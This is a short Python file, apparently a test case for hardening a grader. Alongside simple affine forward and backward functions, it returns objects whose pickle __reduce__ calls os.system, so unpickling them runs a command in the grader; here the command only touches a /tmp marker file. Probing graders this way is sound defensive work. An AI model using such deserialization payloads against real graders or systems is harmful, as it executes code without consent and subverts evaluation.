"""attack: return objects whose unpickling would run a command in the grader
row: 33
layer: W: no pickle
"""

import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@-unpickled",)

    __reduce_ex__ = __getstate__ = lambda self, *args: self.__reduce__()


def affine_forward(x, w, b):
    return x @ w + b, (x, w)


def affine_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)


def total(x):
    return {"a": Bomb(), "b": [Bomb(), (Bomb,)]}
